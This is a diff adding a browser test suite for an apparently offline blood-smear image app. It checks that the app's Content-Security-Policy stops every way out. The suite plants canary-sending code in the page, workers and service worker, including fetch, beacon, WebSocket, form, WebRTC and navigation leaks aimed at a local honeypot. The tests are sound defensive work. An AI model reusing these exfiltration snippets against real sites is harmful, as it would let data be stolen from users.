@@ -1,0 +1,226 @@
+/** No byte goes anywhere: a whole session with images that carry a mark, and leaks planted in every place a script runs. */
+import assert from 'node:assert/strict';
+import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { after, before, describe, test } from 'node:test';
+import type { Browser, Page } from 'puppeteer-core';
+import { goldenCases, root } from '../border/fixtures.ts';
+import { firefox, launchChromium, launchFirefox } from './browsers.ts';
+import { Honeypot } from './honeypot.ts';
+import { dist } from './site.ts';
+import { TestServer } from './test_server.ts';
+
+const canary = 'cytodrop-canary-7f3a';
+const hook = (name: string) => `[data-testid=${name}]`;
+
+/** Ways out of a worker and of a service worker; each sends the mark, and resolves when it has been let go or stopped. */
+const workerPlants = `
+const plants = {
+  fetch: (url) => fetch(url, { method: 'POST', mode: 'no-cors', body: '${canary}' }),
+  query: (url) => fetch(url + '?${canary}', { mode: 'no-cors' }),
+  websocket: (url) => new Promise((resolve) => { new WebSocket(url.replace('http', 'ws')).onerror = resolve; }),
+};`;
+
+/** Those of a page. */
+const pagePlants = `${workerPlants}
+Object.assign(plants, {
+  beacon: (url) => navigator.sendBeacon(url, '${canary}'),
+  image: (url) => new Promise((resolve) => { Object.assign(new Image(), { onload: resolve, onerror: resolve, src: url }); }),
+  eventsource: (url) => new Promise((resolve) => { const source = new EventSource(url); source.onerror = () => { source.close(); resolve(); }; }),
+  stylesheet: (url) => new Promise((resolve) => { document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: url, onload: resolve, onerror: resolve })); }),
+  script: (url) => new Promise((resolve) => { document.head.append(Object.assign(document.createElement('script'), { src: url, onload: resolve, onerror: resolve })); }),
+  frame: (url) => new Promise((resolve) => { document.body.append(Object.assign(document.createElement('iframe'), { src: url, onload: resolve, onerror: resolve })); setTimeout(resolve, 1000); }),
+  form: (url) => new Promise((resolve) => {
+    const frame = Object.assign(document.createElement('iframe'), { name: 'formed', onload: resolve });
+    const form = Object.assign(document.createElement('form'), { action: url, method: 'post', target: 'formed' });
+    form.append(Object.assign(document.createElement('input'), { name: 'canary', value: '${canary}' }));
+    document.body.append(frame, form);
+    form.submit();
+    setTimeout(resolve, 1000);
+  }),
+});`;
+
+const runPlants = (url: string) => `Promise.all(Object.entries(plants).map(async ([name, plant]) => {
+  try { await plant('${url}/' + name + '/${canary}'); } catch {}
+  return name;
+}))`;
+
+/** Appended to a script of the site; says on a channel when all are through. */
+const planted = (url: string) => `\n;(() => { ${workerPlants} ${runPlants(url)}.then((names) => new BroadcastChannel('plants').postMessage(names)); })();\n`;
+
+const browsers = [
+  { name: 'Chromium', launch: launchChromium, missing: undefined },
+  { name: 'Firefox', launch: launchFirefox, missing: firefox === undefined ? 'there is no Firefox (Debian: firefox-esr)' : undefined },
+];
+
+for (const { name, launch, missing } of browsers) {
+  describe(name, { skip: missing }, () => {
+    let browser: Browser;
+    before(async () => { browser = await launch(); });
+    after(() => browser.close());
+
+    interface Visit { page: Page; server: TestServer; honeypot: Honeypot }
+
+    async function visit({ policy }: { policy: boolean }, change: (path: string, bytes: Buffer, honeypot: Honeypot) => Buffer, use: (visit: Visit) => Promise<void>): Promise<void> {
+      const honeypot = await Honeypot.start();
+      const server = new TestServer(dist);
+      if (!policy) server.headers = {};
+      server.change = (path, bytes) => change(path, policy ? bytes : withoutPolicy(path, bytes), honeypot);
+      await server.start();
+      const context = await browser.createBrowserContext();
+      try {
+        const page = await context.newPage();
+        page.setDefaultTimeout(120_000);
+        await page.evaluateOnNewDocument(() => {
+          const told = new Promise((resolve) => { new BroadcastChannel('plants').onmessage = ({ data }) => resolve(data); });
+          Object.assign(globalThis, { told });
+        });
+        await page.goto(server.url);
+        await page.waitForSelector(`${hook('footer')}[data-self-test=passed]`);
+        await use({ page, server, honeypot });
+      } finally {
+        await context.close();
+        await server.stop();
+        await honeypot.stop();
+      }
+    }
+
+    async function stoppedAll(honeypot: Honeypot): Promise<void> {
+      await honeypot.drain();
+      assert.equal(honeypot.received, '');
+      assert.equal(honeypot.bytes, 0);
+    }
+
+    const unchanged = (_: string, bytes: Buffer) => bytes;
+
+    test('a whole session, then without a server: nothing arrives, and the site itself is asked for nothing', async () => {
+      await visit({ policy: true }, unchanged, async ({ page, server, honeypot }) => {
+        const folder = mkdtempSync(join(tmpdir(), 'cytodrop-canary-'));
+        try {
+          const images = goldenCases.map(({ image }, i) => {
+            const path = join(folder, `${canary}-${i}.png`);
+            writeFileSync(path, Buffer.concat([readFileSync(join(new URL('models/blood-smear/golden', root).pathname, image)), Buffer.from(canary)]));
+            return path;
+          });
+          await page.waitForSelector(`${hook('footer')}[data-offline=ready]`);
+          const asked = server.asked.length;
+          for (const isOnline of [true, false]) {
+            if (!isOnline) {
+              await server.stop();
+              await page.reload();
+              await page.waitForSelector(`${hook('footer')}[data-self-test=passed]`);
+            }
+            const input = await page.waitForSelector(hook('file-input'), { hidden: true });
+            await (input as unknown as { uploadFile(...paths: string[]): Promise<void> }).uploadFile(...images);
+            await page.waitForSelector(`${hook('progress')}[data-state=done][data-done="${images.length}"]`);
+            await page.click(hook('cell-card'));
+            await page.waitForSelector(`${hook('details')} canvas`);
+            await page.keyboard.press('Escape');
+            await page.waitForSelector(`${hook('footer')}[data-requests-since="0"]`);
+            assert.deepEqual(server.asked.slice(asked).filter((path) => !path.startsWith('icons/')), []);
+          }
+          await stoppedAll(honeypot);
+        } finally {
+          rmSync(folder, { recursive: true });
+        }
+      });
+    });
+
+    describe('planted in the page', () => {
+      const names = ['fetch', 'query', 'websocket', 'beacon', 'image', 'eventsource', 'stylesheet', 'script', 'frame', 'form'];
+      const withoutServiceWorker = (path: string, bytes: Buffer) => (path === 'service_worker.js' ? Buffer.from('throw 0') : bytes);
+
+      test('the honeypot notices every way out where the policy is taken away', async () => {
+        await visit({ policy: false }, withoutServiceWorker, async ({ page, honeypot }) => {
+          await page.evaluate(`(() => { ${pagePlants} return ${runPlants(honeypot.url)}; })()`);
+          for (const plant of names) assert.ok(await honeypot.until(({ received }) => received.includes(`/${plant}/${canary}`), 30_000), plant);
+        });
+      });
+
+      test('with the policy none gets out', async () => {
+        await visit({ policy: true }, withoutServiceWorker, async ({ page, honeypot }) => {
+          assert.deepEqual(await page.evaluate(`(() => { ${pagePlants} return ${runPlants(honeypot.url)}; })()`), names);
+          await stoppedAll(honeypot);
+          assert.equal(honeypot.connections, 0);
+        });
+      });
+
+      const callOut = async (address: string) => {
+        try {
+          const peer = new RTCPeerConnection({ iceServers: [{ urls: `stun:${address}` }] });
+          peer.createDataChannel('canary');
+          await peer.setLocalDescription();
+          await new Promise<void>((resolve) => {
+            peer.onicegatheringstatechange = () => { if (peer.iceGatheringState === 'complete') resolve(); };
+            setTimeout(resolve, 3_000);
+          });
+          return 'made';
+        } catch (error) {
+          return `refused: ${(error as Error).name}`;
+        }
+      };
+
+      test('WebRTC: seen without the policy, refused with it', async () => {
+        await visit({ policy: false }, withoutServiceWorker, async ({ page, honeypot }) => {
+          assert.equal(await page.evaluate(callOut, honeypot.udp), 'made');
+          assert.ok(await honeypot.until(({ datagrams }) => datagrams > 0, 30_000), 'no datagram');
+        });
+        await visit({ policy: true }, withoutServiceWorker, async ({ page, honeypot }) => {
+          assert.match(await page.evaluate(callOut, honeypot.udp), /^refused/);
+          await stoppedAll(honeypot);
+          assert.equal(honeypot.datagrams, 0);
+        });
+      });
+
+      for (const [way, leave] of [
+        ['location', (address: string) => { location.href = address; }],
+        ['link', (address: string) => { Object.assign(document.body.appendChild(document.createElement('a')), { href: address }).click(); }],
+        ['window', (address: string) => { window.open(address, '_blank', 'noopener'); }],
+      ] as const) {
+        test(`leaving for another site with something in the address, by ${way}: seen without the policy, refused with it`, async () => {
+          await visit({ policy: false }, withoutServiceWorker, async ({ page, honeypot }) => {
+            // The page may be gone before it has answered.
+            await page.evaluate(leave, `${honeypot.url}/${canary}`).catch(() => undefined);
+            assert.ok(await honeypot.until(({ received }) => received.includes(canary), 30_000), 'not seen');
+          });
+          await visit({ policy: true }, withoutServiceWorker, async ({ page, server, honeypot }) => {
+            await page.evaluate(leave, `${honeypot.url}/${canary}`);
+            // Were it under way, this would wait for it.
+            await page.evaluate(() => new Promise((resolve) => setTimeout(resolve, 500)));
+            await stoppedAll(honeypot);
+            assert.equal(page.url(), server.url);
+          });
+        });
+      }
+    });
+
+    for (const [place, isScript] of [
+      ['worker', (path: string) => /worker-[^/]*\.js$/.test(path)], ['service worker', (path: string) => path === 'service_worker.js'],
+    ] as const) {
+      describe(`planted in the ${place}`, () => {
+        const plant = (path: string, bytes: Buffer, honeypot: Honeypot) => (isScript(path) ? Buffer.concat([bytes, Buffer.from(planted(honeypot.url))]) : bytes);
+        const names = ['fetch', 'query', 'websocket'];
+
+        test('the honeypot notices every way out where the policy is taken away', async () => {
+          await visit({ policy: false }, plant, async ({ honeypot }) => {
+            for (const name of names) assert.ok(await honeypot.until(({ received }) => received.includes(`/${name}/${canary}`), 30_000), name);
+          });
+        });
+
+        test('with the policy none gets out', async () => {
+          await visit({ policy: true }, plant, async ({ page, honeypot }) => {
+            assert.deepEqual(await page.evaluate(() => (globalThis as unknown as { told: Promise<string[]> }).told), names);
+            await stoppedAll(honeypot);
+          });
+        });
+      });
+    }
+  });
+}
+
+/** The site as one without a care would serve it. */
+function withoutPolicy(path: string, bytes: Buffer): Buffer {
+  if (path === 'guard.js') return Buffer.from('');
+  return path === 'index.html' ? Buffer.from(bytes.toString().replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '')) : bytes;
+}
